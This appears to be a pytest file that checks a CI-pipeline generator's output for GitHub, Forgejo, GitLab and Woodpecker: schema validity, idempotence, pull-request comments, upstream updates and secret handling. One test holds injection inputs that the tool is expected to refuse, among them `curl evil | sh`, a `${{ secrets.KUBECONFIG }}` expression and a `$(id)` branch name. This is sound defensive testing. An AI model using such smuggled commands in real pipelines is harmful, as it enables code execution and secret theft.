"""`git wild ci init`: pipelines that a forge accepts, and whose shell does what they say."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
import yaml

from tests.commands.conftest import Work, begin, copy_of, made_once
from tests.pipelines import Forge, forge, run_step, steps
from wildgit.adapters.upstream.sample import publish_sample

SCHEMAS = {
    "github": "github-workflows",
    "forgejo": "github-workflows",
    "gitlab": "gitlab-ci",
    "woodpecker": "woodpecker-ci",
}
WILDCONFIG = (
    '[wild-environment "production"]\n\tbranch = main\n\tkubeconfig = kubeconfig\n'
    '[wild-environment "staging.eu"]\n\tbranch = release/next\n[wild-environment "lab"]\n\tcontext = lab\n'
)
PLACES = {
    "github": ".github/workflows/git-wild-{}.yml",
    "forgejo": ".forgejo/workflows/git-wild-{}.yml",
    "woodpecker": ".woodpecker/git-wild-{}.yaml",
    "gitlab": ".gitlab/git-wild.yml",
}


@pytest.fixture
def instance(tmp_path: Path, tmp_path_factory: pytest.TempPathFactory) -> Work:
    """Two apps, committed, with a bare origin."""

    def make(folder: Path) -> Work:
        publish_sample(folder / "wild-directory.git", releases=1)
        work = begin(folder / "my-cloud", folder / "wild-directory.git")
        for app in ("postgres", "redis"):
            work.wild("add", app)
        work.commit("feat(all): Add two apps")
        return work

    work = copy_of(made_once("ci", tmp_path_factory, make), tmp_path)
    work.git("clone", "-q", "--bare", ".", "../origin.git")
    work.git("remote", "add", "origin", str(tmp_path / "origin.git"))
    work.git("fetch", "-q", "origin")
    return work


@pytest.fixture
def fake_gh(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """GitHub's own client, which is on its runners: this one notes how it was called."""
    noted = tmp_path / "bin" / "calls"
    noted.parent.mkdir()
    (noted.parent / "gh").write_text(
        '#!/bin/sh\ncd "$(dirname "$0")"\necho "$@" >> calls\ncase "$*" in *--jq*) cat id ;; esac\n'
    )
    (noted.parent / "gh").chmod(0o755)
    (noted.parent / "id").write_text("")
    monkeypatch.setenv("PATH", str(noted.parent), prepend=":")
    return noted


def clone(work: Work, branch: str) -> Work:
    """What a runner has: a clone, without secrets.yaml, hooks, merge driver and upstream."""
    place = work.root.parent / f"runner-{branch.replace('/', '-')}"
    subprocess.run(
        ["git", "clone", "-q", "-b", branch, str(work.root.parent / "origin.git"), str(place)], check=True
    )
    return Work(place, work.upstream)


def runner(work: Work, told: Forge | None = None) -> dict[str, str]:
    """The variables that the forges' runners set, all of them."""
    head = work.git("rev-parse", "HEAD").strip()
    temporary = work.root.parent / "runner-temp"
    temporary.mkdir(exist_ok=True)
    url = told.url if told else "http://127.0.0.1:9"
    return {
        "RUNNER_TEMP": str(temporary),
        "GITHUB_BASE_REF": "main",
        "GITHUB_REF_NAME": "main",
        "GITHUB_SHA": head,
        "GITHUB_PATH": str(temporary / "path"),
        "GITHUB_STEP_SUMMARY": str(temporary / "step-summary.md"),
        "GITHUB_REPOSITORY": "me/cloud",
        "GITHUB_API_URL": url,
        "GH_TOKEN": "token-of-the-job",
        "NUMBER": "12",
        "CI_MERGE_REQUEST_DIFF_BASE_SHA": work.git("merge-base", "origin/main", "HEAD").strip(),
        "CI_MERGE_REQUEST_IID": "12",
        "CI_API_V4_URL": url,
        "CI_PROJECT_ID": "3",
        "CI_PROJECT_URL": str(work.root.parent / "origin"),
        "CI_COMMIT_BRANCH": "main",
        "CI_COMMIT_TARGET_BRANCH": "main",
        "CI_COMMIT_SHA": head,
        "GIT_WILD_TOKEN": "token-of-the-job",
    }


def init(work: Work, name: str) -> None:
    """Write pipelines that expect git wild where they run, and commit them."""
    work.wild("ci", "init", f"--{name}", "--install", "")
    work.commit("feat(all): Let the forge work")
    work.git("push", "-q", "origin", "HEAD:main")


@pytest.mark.parametrize("settings", ["", WILDCONFIG], ids=["no environments", "environments"])
@pytest.mark.parametrize("name", SCHEMAS)
def test_what_is_written_is_what_the_forge_accepts(instance: Work, name: str, settings: str) -> None:
    if settings:
        (instance.root / ".wildconfig").write_text(settings)
    said = instance.wild("ci", "init", f"--{name}")
    assert ("deploy nothing" in said) is not bool(settings)
    files = [line.removeprefix("wrote ") for line in said.splitlines() if line.startswith("wrote ")]
    check = ["check-jsonschema", "--builtin-schema", f"vendor.{SCHEMAS[name]}", *files]
    done = subprocess.run(check, cwd=instance.root, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout
    text = "".join((instance.root / file).read_text() for file in files)
    assert text.count("git wild deploy --changed --frozen --wait --env") == (2 if settings else 0)
    assert "'git-wild==" in text or "git-wild==" in text
    if name == "woodpecker":
        assert "${" not in text, "Woodpecker itself would replace it before the shell sees it"
    if name in ("github", "forgejo"):
        for file in files:
            for job in yaml.safe_load(instance.read(file))["jobs"].values():
                assert not any("${{" in step.get("run", "") for step in job["steps"])
                assert all(len(step["uses"].split("@")[1]) == 40 for step in job["steps"] if "uses" in step)


def test_running_again_changes_nothing_and_an_edit_is_not_overwritten(instance: Work) -> None:
    assert instance.wild("ci", "init", "--github").count("wrote ") == 2
    assert "wrote" not in instance.wild("ci", "init", "--github")
    (instance.root / ".wildconfig").write_text(WILDCONFIG)
    assert instance.wild("ci", "init", "--github").count("wrote ") == 2, (
        "the jobs of the environments are new"
    )

    place = PLACES["github"].format("check")
    instance.edit(place, "timeout-minutes: 20", "timeout-minutes: 5")
    assert place in instance.wild("ci", "init", "--github", "--install", "git-wild==9.9", code=3)
    assert "9.9" not in instance.read(PLACES["github"].format("deploy")), "nothing was written"
    instance.wild("ci", "init", "--github", "--install", "git-wild==9.9", "--force")
    assert "git-wild==9.9" in instance.read(place) and "timeout-minutes: 20" in instance.read(place)


def test_a_pipeline_of_the_users_own_stays_and_is_asked_to_include_ours(instance: Work) -> None:
    (instance.root / ".gitlab-ci.yml").write_text("test: {script: [true]}\n")
    assert "add to it: include" in instance.wild("ci", "init", "--gitlab")
    assert instance.read(".gitlab-ci.yml") == "test: {script: [true]}\n"


@pytest.mark.parametrize(
    "arguments",
    [
        ["--install", "x; curl evil | sh"],
        ["--install", "x ${{ secrets.KUBECONFIG }}"],
        ["--image", "x\nrun: evil"],
    ],
)
def test_what_means_something_to_a_shell_or_a_forge_is_refused(instance: Work, arguments: list[str]) -> None:
    assert "can't stand in a pipeline" in instance.wild("ci", "init", "--github", *arguments, code=3)
    (instance.root / ".wildconfig").write_text('[wild-environment "a"]\n\tbranch = "x\'$(id)"\n')
    assert "can't stand in a pipeline" in instance.wild("ci", "init", "--gitlab", code=3)
    assert instance.git("status", "--porcelain") == "?? .wildconfig\n"


def test_one_forge_at_a_time(instance: Work) -> None:
    for forges in ([], ["--github", "--gitlab"]):
        assert "say which one" in instance.wild("ci", "init", *forges, code=2)
    assert instance.git("status", "--porcelain") == ""


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("https://me:hunter2@example.org/wild.git", "https://example.org/wild.git"),
        ("https://me:p@hunter2@example.org/wild.git", "https://example.org/wild.git"),
        ("https://hunter2@example.org/wild.git", "https://example.org/wild.git"),
        ("ssh://git:hunter2@example.org:22/wild.git", "ssh://git@example.org:22/wild.git"),
    ],
)
def test_passwords_in_a_url_do_not_get_into_a_pipeline(instance: Work, url: str, shown: str) -> None:
    instance.git("remote", "set-url", "wild-directory", url)
    instance.wild("ci", "init", "--github")
    text = instance.read(PLACES["github"].format("update"))
    assert f"git wild remote {shown}\n" in text.replace(" > /dev/null", "") and "hunter2" not in text


@pytest.mark.parametrize("name", SCHEMAS)
def test_a_change_request_is_checked_and_its_plan_is_one_comment(
    instance: Work, name: str, fake_gh: Path
) -> None:
    init(instance, name)
    instance.git("switch", "-qc", "topic")
    instance.edit("apps/redis/deployment.yaml", "replicas: 1", "replicas: 2")
    instance.commit("scale(redis): Two of them")
    instance.git("push", "-q", "origin", "topic")
    work = clone(instance, "topic")
    with forge() as told:
        environment = runner(work, told)
        if name == "gitlab":
            for job in ("git-wild check", "git-wild plan", "git-wild plan"):
                run_step(steps(work.root, PLACES[name], job)[job], work.root, environment)
        elif name == "woodpecker":
            for script in steps(work.root, PLACES[name].format("check")).values():
                run_step(script, work.root, environment, shell="sh")
        else:
            scripts = steps(work.root, PLACES[name].format("check"))
            for step in ("Check", "Plan", "Summary", "Comment"):
                run_step(scripts[step], work.root, environment)
            (fake_gh.parent / "id").write_text("2\n")
            run_step(scripts["Comment"], work.root, environment)
    assert "| update | `deployment/redis` | 1 field |" in work.read("plan.md")
    if name in ("forgejo", "gitlab"):
        assert told.tokens == {"token-of-the-job"}
        assert told.comments.pop(1) == "looks good to me"
        [comment] = told.comments.values()
        assert comment == f"<!-- git wild: plan -->\n{work.read('plan.md')}"
    if name == "github":
        calls = [line for line in fake_gh.read_text().splitlines() if "--jq" not in line]
        assert calls == [
            "api repos/me/cloud/issues/12/comments --field body=@comment.md",
            "api --method PATCH repos/me/cloud/issues/comments/2 --field body=@comment.md",
        ]
        assert "deployment/redis" in Path(environment["GITHUB_STEP_SUMMARY"]).read_text()


def test_what_must_not_be_merged_fails_the_check_and_is_planned_all_the_same(instance: Work) -> None:
    init(instance, "github")
    instance.git("switch", "-qc", "topic")
    key = (
        "-----BEGIN PRIVATE KEY-----\n"
        + "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n" * 8
        + "-----END PRIVATE KEY-----\n"
    )
    (instance.root / "id.pem").write_text(key)
    instance.commit("config(all): Keep it")
    instance.git("push", "-q", "origin", "topic")
    work = clone(instance, "topic")
    scripts, environment = steps(work.root, PLACES["github"].format("check")), runner(work)
    assert "id.pem" in run_step(scripts["Check"], work.root, environment, code=1)
    run_step(scripts["Plan"], work.root, environment)
    assert "**Nothing would change**" in work.read("plan.md")


@pytest.mark.parametrize("name", SCHEMAS)
def test_what_is_new_upstream_becomes_one_change_request(instance: Work, name: str, fake_gh: Path) -> None:
    init(instance, name)
    publish_sample(instance.upstream, releases=2)
    pushed = []
    for number in (1, 2) if name == "github" else (1,):
        work = clone(instance, "main")
        work.root.rename(work.root.with_name(f"runner-{number}"))
        work = Work(work.root.with_name(f"runner-{number}"), instance.upstream)
        with forge() as told:
            environment = runner(work, told)
            if name in ("github", "forgejo"):
                scripts = steps(work.root, PLACES[name].format("update"))
                for step in ("Update", "Open a pull request"):
                    run_step(scripts[step], work.root, environment)
            elif name == "gitlab":
                job = "git-wild update"
                run_step(steps(work.root, PLACES[name], job)[job], work.root, environment)
            else:
                [script] = steps(work.root, PLACES[name].format("update")).values()
                run_step(script, work.root, environment, shell="sh")
        pushed.append(instance.git("ls-remote", "--heads", "origin", "wild-directory-update-*"))
        if name in ("gitlab", "forgejo"):
            [request] = told.requests
            assert "`postgres`" in request.get("description", request.get("body", ""))
            assert request.get("target_branch", request.get("base")) == "main"
    assert pushed[0].count("\n") == 1 and pushed[-1] == pushed[0], "a second week does not offer it again"
    if name == "github":
        calls = fake_gh.read_text().splitlines()
        assert calls[0] == "auth setup-git" and calls[1].startswith(
            "pr create --base main --head wild-directory-update-"
        )
        assert len(calls) == 2
    subjects = instance.git("ls-remote", "origin", "refs/heads/wild-directory-update-*").split()[0]
    instance.git("fetch", "-q", "origin")
    assert instance.git("log", "--first-parent", "--format=%s", f"main..{subjects}").splitlines() == [
        "Merge remote-tracking branch 'wild-directory/main'",
        "upgrade(redis): 7.2.4 to 7.2.5",
        "upgrade(postgres): 16.3.0 to 16.4.0",
    ]


def test_an_update_with_conflicts_offers_what_merges_and_fails_loudly(instance: Work, fake_gh: Path) -> None:
    instance.edit("apps/redis/deployment.yaml", 'image: "redis:7.2.4-alpine"', 'image: "redis:7.2.4-ours"')
    init(instance, "github")
    publish_sample(instance.upstream, releases=2)
    work = clone(instance, "main")
    scripts, environment = steps(work.root, PLACES["github"].format("update")), runner(work)
    assert "CONFLICT" in run_step(scripts["Update"], work.root, environment, code=1)
    run_step(scripts["Open a pull request"], work.root, environment)
    assert "pr create" in fake_gh.read_text()
    summary = Path(environment["GITHUB_STEP_SUMMARY"]).read_text()
    assert "| `redis` | `7.2.4` → `7.2.5` | `deployment.yaml` | **conflicts** |" in summary
    assert work.git("log", "-1", "--format=%s").startswith("upgrade(postgres): ")
    assert work.git("status", "--porcelain") == ""
